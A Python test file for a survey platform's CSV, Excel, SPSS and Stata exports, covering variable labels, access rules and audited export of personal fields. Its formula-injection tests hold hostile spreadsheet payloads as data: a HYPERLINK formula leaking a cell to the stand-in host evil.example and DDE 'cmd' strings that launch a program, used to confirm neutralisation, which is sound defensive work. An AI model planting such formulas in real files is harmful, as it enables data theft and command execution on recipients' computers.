"""Exports: CSV (codes or labels, select_multiple split or not), XLSX, SPSS and Stata, each
opened again (csv, openpyxl, pyreadstat) to check columns, variable labels and value labels;
personal fields only for an admin who asks."""

from __future__ import annotations

import csv
import dataclasses
import io

import openpyxl
import pyreadstat
import pytest
from sqlmodel import Session, select

from surveys import exports, import_jobs, service
from surveys.models import Survey
from surveys.spec import ItemSpec
from web.accounts.models import AuditEvent
from tests.factories import bearer, login
from tests.surveys.factories import make_answers, make_kap_spec, make_payload, make_survey


def spec_with_phone():
    """The KAP instrument with a personal field (the respondent's phone) in the background section."""
    spec = make_kap_spec()
    sections = list(spec.sections)
    background = sections[1]
    phone = ItemSpec(code="phone", type="text", personal=True, labels={"en": "Phone number", "fr": "Téléphone", "ht": "Telefòn"})
    sections[1] = dataclasses.replace(background, items=background.items + (phone,))
    return dataclasses.replace(spec, sections=tuple(sections))


@pytest.fixture
def kap(engine, personas):
    """Three baseline interviews (one rejected) and one at endline."""
    made = make_survey(engine, spec=spec_with_phone(), actor=personas["leo"])
    with Session(engine, expire_on_commit=False) as session:
        survey = session.get(Survey, made.id)
        subs = []
        for wave, answers, design in (
            ("baseline", make_answers(phone="+509 3700 0001"), {}),
            ("baseline", make_answers(k_signs=["dk"], k_law="dk", k_law_year=None, a_report_duty="1", phone="+509 3700 0002"),
             {"region": "Nord", "weight": 2.25, "arm": "comparison"}),
            ("baseline", make_answers(), {"region": "Sud"}),
            ("endline", make_answers(e_radio="no", e_times=None, e_last=None), {"region": "Ouest"}),
        ):
            wave_row = service.get_wave(session=session, survey=survey, wave=wave)
            sub, _ = service.submit(session=session, survey=survey, wave=wave_row, enumerator=personas["eddy"],
                                    payload=make_payload(answers=answers, **design), source="api")
            subs.append(sub)
        service.review_submissions(session=session, submissions=[subs[2]], status="rejected", comment="Fake interview",
                                   actor=personas["sonia"])
        session.commit()
    return made


def rows_of(engine, kap, **options):
    opts = exports.ExportOptions(**options)
    with Session(engine) as session:
        survey = session.get(Survey, kap.id)
        columns = exports.export_columns(exports.load_specs(session=session, survey=survey), opts)
        return columns, list(exports.iter_export_rows(session=session, survey=survey, options=opts))


def csv_of(engine, kap, **options) -> list[dict[str, str]]:
    columns, rows = rows_of(engine, kap, **options)
    data = b"".join(exports.write_csv(rows, columns, labels=options.get("labels", False)))
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def file_of(engine, kap, tmp_path, **options):
    columns, rows = rows_of(engine, kap, **options)
    opts = exports.ExportOptions(**options)
    path = tmp_path / f"export.{opts.format}"
    with exports.write_export(rows, columns, opts, title="KAP trafficking") as out:
        path.write_bytes(out.read())
    return path


# --- pure: columns ------------------------------------------------------------------------


def test_it_numbers_choices_by_their_names_or_their_order():
    assert exports._codes(["1", "2", "5"]) == {"1": 1, "2": 2, "5": 5}
    assert exports._codes(["yes", "no", "dk"]) == {"yes": 1, "no": 2, "dk": 3}
    assert exports._codes(["1", "01"]) == {"1": 1, "01": 2}  # "01" is not the number 1 written plainly


def test_it_makes_names_spss_and_stata_accept():
    taken: set[str] = set()
    assert exports._var_name("k_signs/job_offer", taken, 32) == "k_signs_job_offer"
    assert exports._var_name("_index", taken, 32) == "v_index"
    assert exports._var_name("in", taken, 32) == "v_in"
    assert exports._var_name("x" * 40, taken, 32) == "x" * 32
    assert exports._var_name("x" * 40, taken, 32) == "x" * 30 + "_2"


def test_it_leaves_personal_fields_out_unless_asked():
    spec = spec_with_phone()
    names = [c.name for c in exports.export_columns([spec], exports.ExportOptions())]
    assert "phone" not in names and "age" in names and "start" not in names
    names = [c.name for c in exports.export_columns([spec], exports.ExportOptions(include_personal=True))]
    assert "phone" in names


def test_it_refuses_unknown_formats():
    with pytest.raises(ValueError, match="unknown export format"):
        exports.ExportOptions(format="json")  # type: ignore[arg-type]


# --- CSV --------------------------------------------------------------------------------


def test_csv_has_codes_and_leaves_rejected_and_personal_out(engine, kap):
    rows = csv_of(engine, kap)
    assert len(rows) == 3 and {r["status"] for r in rows} == {"received"}
    first = rows[0]
    assert list(first)[:4] == ["uuid", "wave", "status", "instrument_version"]
    assert "phone" not in first
    assert first["k_signs"] == "job_offer debt" and first["k_law"] == "yes" and first["age"] == "34"
    assert first["enumerator"] == "eddy" and first["weight"] == "1.5" and first["started_at"] == "2026-11-02T14:15:00Z"
    assert rows[1]["weight"] == "2.25" and rows[1]["arm"] == "comparison"


def test_csv_with_labels_in_a_language_and_split_choices(engine, kap):
    rows = csv_of(engine, kap, labels=True, language="fr", split_multiple=True)
    first = rows[0]
    assert first["k_law"] == "Oui" and first["a_report_duty"] == "Tout à fait d'accord"
    assert "k_signs" not in first
    assert (first["k_signs/job_offer"], first["k_signs/documents"], first["k_signs/debt"]) == ("1", "0", "1")
    assert rows[1]["k_signs/dk"] == "1"
    unsplit = csv_of(engine, kap, labels=True, language="en")
    assert unsplit[0]["k_signs"] == "False job offer; Debt that never ends"


def test_csv_filters_by_wave_and_scope(engine, kap):
    assert {r["wave"] for r in csv_of(engine, kap, wave_ids=(kap.endline.id,))} == {"endline"}
    assert len(csv_of(engine, kap, scope="all")) == 4
    assert len(csv_of(engine, kap, scope="approved")) == 0


def test_csv_export_imports_back_as_the_same_submissions(engine, kap):
    """The CSV reads like a Kobo export: importing it again recognises every submission
    (personal fields included: without them the content would differ)."""
    columns, rows = rows_of(engine, kap, include_personal=True)
    data = b"".join(exports.write_csv(rows, columns))
    with Session(engine, expire_on_commit=False) as session:
        survey = session.get(Survey, kap.id)
        report = import_jobs.check_file(session=session, survey=survey, source=data, filename="export.csv",
                                        mapping={"uuid": "uuid", "start": "started_at", "end": "ended_at"})
    assert (report.rows, report.already, report.new, report.bad) == (3, 3, 0, 0), report.problems


# --- XLSX ------------------------------------------------------------------------------


def test_xlsx_has_typed_cells_and_a_sheet_of_labels(engine, kap, tmp_path):
    path = file_of(engine, kap, tmp_path, format="xlsx", language="en")
    wb = openpyxl.load_workbook(path)
    responses = list(wb["responses"].iter_rows(values_only=True))
    header, first = responses[0], dict(zip(responses[0], responses[1]))
    assert "phone" not in header and len(responses) == 4
    assert first["age"] == 34 and first["weight"] == 1.5 and first["k_law"] == "yes"
    assert first["started_at"].isoformat() == "2026-11-02T14:15:00"
    variables = {r[0]: r for r in wb["variables"].iter_rows(min_row=2, values_only=True)}
    assert variables["k_law"][1] == "Is there a law against trafficking in persons in Haiti?"
    assert variables["k_law"][3] == "1 = Yes; 2 = No; 3 = Don't know"
    assert variables["a_report_duty"][3].startswith("1 = Strongly disagree")


# --- SPSS and Stata ---------------------------------------------------------------------------


@pytest.mark.parametrize("fmt, reader", [("sav", pyreadstat.read_sav), ("dta", pyreadstat.read_dta)])
def test_spss_and_stata_files_have_variable_and_value_labels(engine, kap, tmp_path, fmt, reader):
    path = file_of(engine, kap, tmp_path, format=fmt, language="en", split_multiple=True)
    df, meta = reader(str(path))
    assert len(df) == 3 and "phone" not in df.columns
    labels = meta.column_names_to_labels
    assert labels["k_law"] == "Is there a law against trafficking in persons in Haiti?"
    assert labels["k_signs_job_offer"] == "Which signs of trafficking do you know?: False job offer"
    assert labels["weight"] == "Sampling weight"
    values = meta.variable_value_labels
    assert values["k_law"] == {1: "Yes", 2: "No", 3: "Don't know"}
    assert values["a_report_duty"][5] == "Strongly agree"  # Likert choices named 1..5 keep their numbers
    assert values["k_signs_debt"] == {0: "No", 1: "Yes"}
    first, second = df.iloc[0], df.iloc[1]
    assert (first["k_law"], second["k_law"]) == (1, 3)
    assert (first["a_report_duty"], second["a_report_duty"]) == (5, 1)
    assert (first["k_signs_job_offer"], first["k_signs_documents"], second["k_signs_dk"]) == (1, 0, 1)
    assert first["age"] == 34 and second["weight"] == 2.25 and first["region"] == "Ouest"
    assert str(first["e_last"])[:10] == "2026-10-02"
    assert df["k_law_year"].isna().tolist() == [False, True, False]  # not asked: missing, not zero


# --- routes -----------------------------------------------------------------------------------


def test_it_serves_the_export_form_and_offers_personal_fields_only_to_admins(client, kap):
    login(client, "leo")
    page = client.get(f"/surveys/{kap.id}/export")
    assert page.status_code == 200 and "phone" in page.text and "/export/personal" not in page.text
    client.post("/logout", data={"csrf_token": ""})
    client.cookies.clear()
    login(client, "alice")
    assert f"/surveys/{kap.id}/export/personal" in client.get(f"/surveys/{kap.id}/export").text


def test_a_lead_downloads_spss_without_personal_fields(client, kap, tmp_path, engine):
    login(client, "leo")
    response = client.get(f"/surveys/{kap.id}/export/download", params={"format": "sav", "language": "ht"})
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith('attachment; filename="kap-trafficking')
    path = tmp_path / "download.sav"
    path.write_bytes(response.content)
    df, meta = pyreadstat.read_sav(str(path))
    assert "phone" not in df.columns and meta.variable_value_labels["k_law"][1] == "Wi"
    assert "k_signs_debt" in df.columns  # SPSS gets split choices by default
    assert client.get(f"/surveys/{kap.id}/export/personal", params={"format": "sav"}).status_code == 403
    with Session(engine) as s:
        events = s.exec(select(AuditEvent).where(AuditEvent.action == "survey.export")).all()
        assert len(events) == 1 and events[0].details["format"] == "sav"


def test_an_admin_who_asks_gets_personal_fields_and_it_is_audited(client, kap, engine):
    login(client, "alice")
    response = client.get(f"/surveys/{kap.id}/export/personal", params={"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0]["phone"] == "'+509 3700 0001"  # neutralised: "+..." would be a formula in a spreadsheet
    plain = client.get(f"/surveys/{kap.id}/export/download", params={"format": "csv"})
    assert "phone" not in plain.content.decode("utf-8-sig").splitlines()[0].split(",")
    with Session(engine) as s:
        assert s.exec(select(AuditEvent).where(AuditEvent.action == "survey.export_personal")).one().details["personal"]


def test_the_api_exports_stata_and_xlsx_with_a_token(client, kap, tmp_path):
    headers = bearer(client, "sonia")
    response = client.get(f"/api/v1/surveys/{kap.id}/export", params={"format": "dta", "wave": "baseline"}, headers=headers)
    assert response.status_code == 200 and response.headers["content-type"] == "application/x-stata-dta"
    path = tmp_path / "x.dta"
    path.write_bytes(response.content)
    df, meta = pyreadstat.read_dta(str(path))
    assert len(df) == 2 and set(df["wave"]) == {"baseline"}
    response = client.get(f"/api/v1/surveys/{kap.id}/export", params={"format": "xlsx", "labels": "true"}, headers=headers)
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    assert wb.sheetnames == ["responses", "variables"]
    assert client.get(f"/api/v1/surveys/{kap.id}/export/personal", headers=headers).status_code == 403
    assert client.get(f"/api/v1/surveys/{kap.id}/export", params={"format": "json"}, headers=headers).status_code == 422
    assert client.get(f"/api/v1/surveys/{kap.id}/export", params={"wave": "midline"}, headers=headers).status_code == 400


def test_it_does_not_let_communications_or_enumerators_export(client, kap):
    for name in ("carla", "eddy"):
        headers = bearer(client, name)
        assert client.get(f"/api/v1/surveys/{kap.id}/export", headers=headers).status_code == 403
    assert client.get(f"/api/v1/surveys/{kap.id}/export").status_code == 401


def test_it_exports_an_empty_survey(client, engine, personas, tmp_path):
    made = make_survey(engine, title="Empty", actor=personas["leo"])
    headers = bearer(client, "leo")
    for fmt in ("csv", "xlsx", "sav", "dta"):
        response = client.get(f"/api/v1/surveys/{made.id}/export", params={"format": fmt}, headers=headers)
        assert response.status_code == 200, (fmt, response.text[:200])


# --- formula injection (OWASP) --------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def hostile(engine, personas):
    """One interview whose text answers would run as formulas in a spreadsheet."""
    made = make_survey(engine, spec=spec_with_phone(), actor=personas["leo"])
    with Session(engine, expire_on_commit=False) as session:
        survey = session.get(Survey, made.id)
        wave = service.get_wave(session=session, survey=survey, wave="baseline")
        service.submit(session=session, survey=survey, wave=wave, enumerator=personas["eddy"], source="api",
                       payload=make_payload(answers=make_answers(comments=FORMULA, phone="@SUM(1+1)*cmd|' /C calc'!A0"),
                                            region="-Nord"))
        session.commit()
    return made


def test_csv_neutralises_formulas_and_keeps_numbers(engine, hostile):
    row = csv_of(engine, hostile, include_personal=True)[0]
    assert row["comments"] == "'" + FORMULA
    assert row["phone"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row["region"] == "'-Nord"
    assert row["age"] == "34" and row["weight"] == "1.5"


def test_xlsx_neutralises_formulas_as_text_cells(engine, hostile, tmp_path):
    path = file_of(engine, hostile, tmp_path, format="xlsx", include_personal=True)
    sheet = openpyxl.load_workbook(path)["responses"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2]))
    assert cells["comments"].data_type == "s" and cells["comments"].value == "'" + FORMULA
    assert cells["phone"].value.startswith("'@") and cells["region"].value == "'-Nord"
    assert cells["age"].data_type == "n" and cells["age"].value == 34
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("fmt, reader", [("sav", pyreadstat.read_sav), ("dta", pyreadstat.read_dta)])
def test_spss_and_stata_keep_the_raw_text(engine, hostile, tmp_path, fmt, reader):
    df, _ = reader(str(file_of(engine, hostile, tmp_path, format=fmt, include_personal=True)))
    assert df.iloc[0]["comments"] == FORMULA and df.iloc[0]["region"] == "-Nord"


def test_a_neutralised_csv_imports_back_as_typed(engine, hostile):
    columns, rows = rows_of(engine, hostile, include_personal=True)
    data = b"".join(exports.write_csv(rows, columns))
    with Session(engine, expire_on_commit=False) as session:
        survey = session.get(Survey, hostile.id)
        report = import_jobs.check_file(session=session, survey=survey, source=data, filename="export.csv",
                                        mapping={"uuid": "uuid", "start": "started_at", "end": "ended_at"})
    assert (report.rows, report.already, report.new, report.bad) == (1, 1, 0, 0), report.problems


# --- repeat groups: a table each, linked by the submission id -----------------------------------

ROSTER = [{"pname": "=cmd|' /C calc'!A0", "page": 40, "works": "yes"}, {"pname": "Bo", "page": 2}]


@pytest.fixture
def roster(engine, personas):
    """Two interviews of a household roster: one with two people, one with none."""
    from surveys.xlsform import read_xlsform
    from tests.surveys.test_repeats import household_form

    made = make_survey(engine, spec=read_xlsform(household_form()), actor=personas["leo"])
    with Session(engine, expire_on_commit=False) as session:
        survey = session.get(Survey, made.id)
        wave = service.get_wave(session=session, survey=survey, wave="baseline")
        for answers, uuid in (({"n": 2, "total_age": 42, "person": ROSTER}, "00000000-0000-4000-8000-000000000001"),
                              ({"n": 0, "k_law": "no"}, "00000000-0000-4000-8000-000000000002")):
            service.submit(session=session, survey=survey, wave=wave, enumerator=personas["eddy"], source="api",
                           payload=make_payload(answers=answers, uuid=uuid))
        session.commit()
    return made


def test_repeats_get_a_table_each_linked_by_submission_uuid_and_repetition(engine, roster):
    columns, rows = rows_of(engine, roster)
    assert [c.name for c in columns if c.is_item] == ["k_law", "n", "total_age"]  # repeat children are not columns
    with Session(engine) as session:
        specs = exports.load_specs(session=session, survey=session.get(Survey, roster.id))
    (table,) = exports.repeat_tables(specs, exports.ExportOptions())
    assert (table.name, table.label) == ("person", "Person")
    data = b"".join(exports.write_csv(exports.repeat_export_rows(rows, table), table.columns))
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert lines == [["submission_uuid", "repetition", "pname", "page", "works", "idx"],
                     ["00000000-0000-4000-8000-000000000001", "1", "'" + ROSTER[0]["pname"], "40", "yes", "1"],
                     ["00000000-0000-4000-8000-000000000001", "2", "Bo", "2", "", "2"]]


def test_xlsx_has_a_sheet_per_repeat_and_spss_stata_keep_the_interviews(client, engine, roster, tmp_path):
    headers = bearer(client, "leo")
    r = client.get(f"/api/v1/surveys/{roster.id}/export", params={"format": "xlsx"}, headers=headers)
    assert r.status_code == 200
    (tmp_path / "r.xlsx").write_bytes(r.content)
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert wb.sheetnames == ["responses", "person", "variables"]
    people = list(wb["person"].iter_rows(values_only=True))
    assert people[0][:4] == ("submission_uuid", "repetition", "pname", "page")
    assert people[1][:4] == ("00000000-0000-4000-8000-000000000001", 1, "'" + ROSTER[0]["pname"], 40)
    assert len(people) == 3 and people[2][1] == 2
    assert "person/page" in [row[0] for row in wb["variables"].iter_rows(values_only=True)]
    for fmt, reader in (("sav", pyreadstat.read_sav), ("dta", pyreadstat.read_dta)):
        r = client.get(f"/api/v1/surveys/{roster.id}/export", params={"format": fmt}, headers=headers)
        assert r.status_code == 200
        (tmp_path / f"r.{fmt}").write_bytes(r.content)
        df, _ = reader(str(tmp_path / f"r.{fmt}"))
        assert len(df) == 2 and "page" not in df.columns
    r = client.get(f"/api/v1/surveys/{roster.id}/export", params={"format": "csv", "table": "person"}, headers=headers)
    assert r.status_code == 200 and "-person-" in r.headers["content-disposition"]
    assert r.content.decode("utf-8-sig").splitlines()[0] == "submission_uuid,repetition,pname,page,works,idx"
    for params in ({"format": "csv", "table": "nope"}, {"format": "xlsx", "table": "person"}):
        assert client.get(f"/api/v1/surveys/{roster.id}/export", params=params, headers=headers).status_code == 400
    login(client, "leo")
    page = client.get(f"/surveys/{roster.id}/export")
    assert page.status_code == 200 and '<option value="person">' in page.text
